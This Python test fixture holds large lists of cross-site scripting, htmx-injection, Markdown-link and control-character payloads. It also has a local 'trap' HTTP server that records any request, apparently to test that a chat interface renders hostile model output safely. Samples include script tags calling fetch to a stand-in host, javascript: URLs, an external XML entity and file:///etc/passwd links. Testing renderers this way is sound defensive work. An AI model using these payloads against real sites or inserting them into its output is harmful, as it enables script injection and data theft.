"""What a hostile model, page or catalogue might say, and a server that must never hear of it.

In the texts, TRAP stands for the host and port of that server.
"""

from __future__ import annotations

import json
import random
import re
import threading
from collections.abc import Sequence
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType
from typing import Any, Self

from tests.upstream import faults

#: Raw HTML that would run something, load something, send something or leave the page.
TAGS: Sequence[str] = (
    "<script>alert(1); fetch('http://TRAP/fetch')</script>",
    "<ScRiPt/x src=//TRAP/script.js>alert(1)</sCrIpT >",
    '<script type="module">import("http://TRAP/module.js")</script>',
    "<img src=http://TRAP/img.png onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1) style='background:url(http://TRAP/style)'>",
    "<IMG SRC=`javascript:alert(1)` LOWSRC=http://TRAP/lowsrc>",
    "<img srcset='http://TRAP/srcset 1x'><picture><source srcset=http://TRAP/picture></picture>",
    "<svg onload=alert(1)><script>alert(1)</script><image href=http://TRAP/svg.png /></svg>",
    "<svg><use href='http://TRAP/use.svg#x'/><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate xlink:href=#main attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math xlink:href='javascript:alert(1)'><maction actiontype='statusline#http://TRAP/math'>x</maction></math>",
    "<iframe src=http://TRAP/frame srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://TRAP/object></object><embed src=http://TRAP/embed><applet code=x></applet>",
    "<form action=http://TRAP/form id=composer><input name=text autofocus onfocus=alert(1)><button>Go</button></form>",
    "<input type=image src=http://TRAP/input formaction=javascript:alert(1)><isindex action=javascript:alert(1)>",
    "<base href='http://TRAP/base/'><meta http-equiv=refresh content='0;url=http://TRAP/meta'>",
    "<link rel=stylesheet href=http://TRAP/link.css><link rel=preconnect href=http://TRAP>",
    "<link rel=icon href=//TRAP/icon>",
    "<link rel=prefetch href=http://TRAP/prefetch><link rel=dns-prefetch href=//TRAP>",
    "<style>@import url(http://TRAP/import.css); * { background: url(http://TRAP/css) !important }</style>",
    "<div style='position:fixed;inset:0;background:url(http://TRAP/overlay)'>Sign in again: <input></div>",
    "<video poster=http://TRAP/poster src=http://TRAP/video autoplay><track src=http://TRAP/track></video>",
    "<audio src=http://TRAP/audio autoplay onerror=alert(1)></audio><bgsound src=http://TRAP/sound>",
    "<body background=http://TRAP/body onload=alert(1)><table background=http://TRAP/table><tr><td>x</table>",
    "<a href=http://TRAP/ping ping=http://TRAP/pinged onclick=alert(1)>click</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>",
    "<div onpointerenter=alert(1) onfocusin=alert(1) tabindex=1 autofocus contenteditable>x</div>",
    "<template shadowrootmode=open><img src=http://TRAP/shadow onerror=alert(1)></template>",
    "<dialog open id=toast>Pay here</dialog><button popovertarget=main popover>x</button>",
    "<title>Stolen</title><head><title>Stolen too</title></head><html><body>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>--> <!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]> <?xml-stylesheet href='http://TRAP/x.xsl'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'http://TRAP/entity'>]>&y;",
    "</div></article></div></main></body></html>",
    "</p></code></pre></span></button></details></hx-partial></template></textarea></title></style></script>",
    "<textarea id=message></textarea><xmp><plaintext id=x><select><option>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x3c;svg onload=alert(1)&#x3e;",
    "<\x00script>alert(1)</script> <scr\x00ipt>alert(1)</script> \ufeff<script>alert(1)</script>",
)

#: What htmx would obey, and element ids that are ours.
HTMX: Sequence[str] = (
    '<hx-partial hx-target="#main" hx-swap="innerHTML"><b>gone</b></hx-partial>',
    "<HX-PARTIAL\nhx-target='body' hx-swap='innerHTML'>gone</HX-PARTIAL>",
    '</hx-partial><hx-partial hx-target="#main" hx-swap="delete">',
    '<template hx type="partial" hx-target="#main" hx-swap="innerHTML">gone</template>',
    '<div hx-get="http://TRAP/hx-get" hx-trigger="load" hx-target="body">x</div>',
    '<div data-hx-get="http://TRAP/data-hx-get" data-hx-trigger="load">x</div>',
    '<div hx-post="/chats/" hx-vals=\'{"text": "stolen"}\' hx-trigger="load, every 1s">x</div>',
    '<div hx-sse:connect="http://TRAP/sse" hx-on:load="alert(1)" hx-on::after:swap="alert(1)">x</div>',
    '<form hx-boost="true" action="http://TRAP/boost"><button hx-action="http://TRAP/action">x</button></form>',
    '<div id="main" hx-swap-oob="true">taken</div><div id="log" hx-swap-oob="innerHTML:#main">taken</div>',
    '<hx-redirect url="http://TRAP/redirect"></hx-redirect><hx-title>Stolen</hx-title>',
    '<meta name="htmx-config" content=\'{"selfRequestsOnly": false}\'><form id=htmx><input name=config></form>',
    '<a id="lerix" name="lerix" href="x"></a><img name="getElementById"><div id="stream"></div><div id="picker">',
    '<div class="chunk" id="m1-body-c0">taken</div><div class="open" id="m1-body-open">taken</div>',
    '<button data-copy="message" data-source="http://TRAP/source" data-dialog="x" data-sidebar="close">x</button>',
    "[t](http://TRAP/title \"<hx-partial hx-target='#main' hx-swap='innerHTML'>gone</hx-partial>\")",
    "[t](<http://TRAP/<hx-partial hx-target='#main'>gone</hx-partial>>)",
    "![</hx-partial><hx-partial hx-target='#main'>gone</hx-partial>](http://TRAP/alt)",
)

#: Links and images in all the spellings of Markdown.
LINKS: Sequence[str] = (
    *(
        f"[t]({address}) ![i]({address}) <{address}>"
        for address in (
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "javascript&colon;alert(1)",
            "&#106;avascript:alert(1)",
            "&#x6A&#x61&#x76;ascript:alert(1)",
            "java&Tab;script:alert(1)",
            "java&NewLine;script:alert(1)",
            "\\javascript:alert(1)",
            "%6Aavascript:alert(1)",
            "\x01javascript:alert(1)",
            "\u00a0javascript:alert(1)",
            "javascript://TRAP/%0aalert(1)",
            "vbscript:msgbox(1)",
            "data:text/html,<script>alert(1)</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+",
            "data:image/png;base64,iVBORw0KGgo=",
            "blob:http://TRAP/x",
            "file:///etc/passwd",
            "about:blank",
            "view-source:http://TRAP/view",
            "intent://TRAP/#Intent;end",
            "ms-msdt:/id",
            "feed:javascript:alert(1)",
            "ftp://TRAP/ftp",
        )
    ),
    "[t](<java\tscript:alert(1)>) [t](< javascript:alert(1)>) [t](\u0001javascript:alert(1))",
    '[r][x] ![r][x] [x] [x][]\n\n[x]: javascript:alert(1) "t"\n[y]: <javascript:alert(1)>\n\n[y]',
    "![i](http://TRAP/image.png) ![i](//TRAP/relative.png) ![i](http://TRAP/image.svg 'title')",
    "[![i](http://TRAP/inner.png)](http://TRAP/outer) [![i](javascript:alert(1))](javascript:alert(1))",
    "![i][remote]\n\n[remote]: http://TRAP/reference.png",
    '!["><img src=x onerror=alert(1)>](http://TRAP/alt.png "\\" onload=alert(1) x=\\"")',
    '[t](http://TRAP/t "\\" onmouseover=\\"alert(1)\\" style=\\"position:fixed")',
    "[t](//TRAP/x) [t](http:TRAP/x) [t](http:/\\TRAP/x) [t](\\\\\\\\TRAP\\\\x)",
    '[t](http://TRAP/"onclick=alert(1)) [t](/settings/) [t](?token=stolen) [t](#main)',
    "<http://TRAP/auto> http://TRAP/bare <a@TRAP> www.TRAP",
    "[t](http://user:password@TRAP/) [t](mailto:a@example.com?body=x) [t](HTTP://TRAP/upper)",
    "$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{http://TRAP/tex}$$ [^1]\n\n[^1]: <img src=http://TRAP/foot>",
)

#: Blocks whose seams somebody could try to break out of. The last one never ends.
BLOCKS: Sequence[str] = (
    '- [x] <img src=x onerror=alert(1)>\n- [ ] [t](javascript:alert(1))\n- ["onclick=alert(1)] x',
    "| <img src=x onerror=alert(1)> | b |\n|:-:|--:|\n| <script>alert(1)</script> | ![i](http://TRAP/cell) |",
    "# <img src=http://TRAP/h1 onerror=alert(1)>\n\n> <base href=http://TRAP/>\n\n1. <svg onload=alert(1)>",
    "<h1 id=title>Taken</h1>\n===\n\n<div\n\nonclick=alert(1)>\n---",
    '```"><img src=x onerror=alert(1)>\n</code></pre></div><script>alert(1)</script>\n```',
    "```python onload=alert(1)\n# </span></code></pre><img src=http://TRAP/code onerror=alert(1)>\n```",
    "```html\n<script src=http://TRAP/html.js></script><hx-partial hx-target='#main'>gone</hx-partial>\n```",
    '~~~ js" onmouseover="alert(1)\n</hx-partial><hx-partial hx-target="#main">gone\n~~~',
    "```<hx-partial hx-target='#main'>\nx\n```\n\n```../../../etc/passwd\nx\n```\n\n```" + "y" * 5_000 + "\nx\n```",
    "    </code></pre><img src=http://TRAP/indented onerror=alert(1)>",
    '`</code><img src=x onerror=alert(1)>` ``<hx-partial hx-target="#main">gone``',
    "Before\n\nid: 9\ndata: x\n\nevent: hx:release\ndata: <h1>x</h1>\n\nretry: 1\n\n: comment\n\ndata: [DONE]\n",
    "Line\rdata: y\r\n\r\nid: 99.99.99\r\rdata: z\u2028data: a\u2029data: b\x0bdata: c\x0cdata: d\x85data: e",
    "\x1b[31mred\x1b[0m \x1b]8;;http://TRAP/osc\x07link\x1b]8;;\x07 \x1b]0;title\x07 \x1b[2J\x1b[H",
    "\x9b31m bell \x07 back \x08 delete \x7f and \x1b",
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200fmarks\u200e \u061c \ufeffbom \u2067nbsp",
    "NUL \x00 in \x00 the \x00 text, and \ufffe and \uffff and \U000e0041 tags",
    "Z\u0300" + "\u0300\u0301\u0302" * 300 + " stacked marks",
    "$\\href{javascript:alert(1)}{x} \\url{http://TRAP/tex} \\text{<img src=http://TRAP/tex onerror=alert(1)>}$",
    "$$\n\\style{background:url(http://TRAP/tex)}{x} \\class{toast}{y} \\includegraphics{http://TRAP/tex.png}\n$$",
    '\\(</math><script>alert(1)</script> " onmouseover="alert(1)\\) \\begin{<svg onload=alert(1)>}',
    "Notes[^toast] and[^1].\n\n[^toast]: <img src=x onerror=alert(1)>\n[^1]: One.\n\n[^1]: Once more.",
    "```text\nthis block is never closed </code></pre><script>alert(1)</script>\nThe end of it all.",
)


def joined(samples: Sequence[str], trap: str, end: str = "The end of it all.") -> str:
    """One text of many samples."""
    return "\n\n".join([*samples, end]).replace("TRAP", trap)


def cut_up(text: str, seed: int, longest: int = 24) -> list[str]:
    """The text in pieces of random lengths, so that tags, entities and escapes are split anywhere."""
    chosen = random.Random(seed)
    pieces, at = [], 0
    while at < len(text):
        size = chosen.randint(1, longest)
        pieces.append(text[at : at + size])
        at += size
    return pieces


def escaped_answer(text: str, thoughts: str = "") -> faults.Answer:
    """A whole streamed answer in which JSON escapes everything beyond ASCII: so it can hold half characters."""
    events: list[dict[str, Any]] = [{"type": "response.created", "response": {"id": "resp_1"}}]
    if thoughts:
        kind = "response.reasoning_summary_text.delta"
        events.append({"type": kind, "output_index": 0, "summary_index": 0, "delta": thoughts})
    place = {"output_index": 1, "content_index": 0}
    events += [{"type": "response.output_text.delta", **place, "delta": piece} for piece in re.findall(r"\S+\s*", text)]
    events.append({"type": "response.completed", "response": {"id": "resp_1", "status": "completed", "output": []}})
    body = "".join(f"event: {event['type']}\ndata: {json.dumps(event)}\n\n" for event in events)
    return faults.Answer(200, body.encode(), "text/event-stream")


@dataclass
class Trap:
    """A server on another port of this machine. ``connections`` counts sockets, even those that say nothing."""

    connections: int = 0
    requests: list[tuple[str, dict[str, str]]] = field(default_factory=list)

    def __enter__(self) -> Self:
        trap = self

        class Handler(BaseHTTPRequestHandler):
            def setup(self) -> None:
                trap.connections += 1
                super().setup()

            def do_GET(self) -> None:
                trap.requests.append((self.path, {name.lower(): value for name, value in self.headers.items()}))
                body = b'<!doctype html><title>Trap</title><link rel="icon" href="data:,"><p>Trap'
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815  (the names are the library's)

            def log_message(self, *args: object) -> None:
                return None

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True)
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()

    @property
    def host(self) -> str:
        """Host and port, as in an address."""
        return f"127.0.0.1:{self._server.server_port}"

    @property
    def silent(self) -> bool:
        """Whether nobody came."""
        return not self.connections and not self.requests
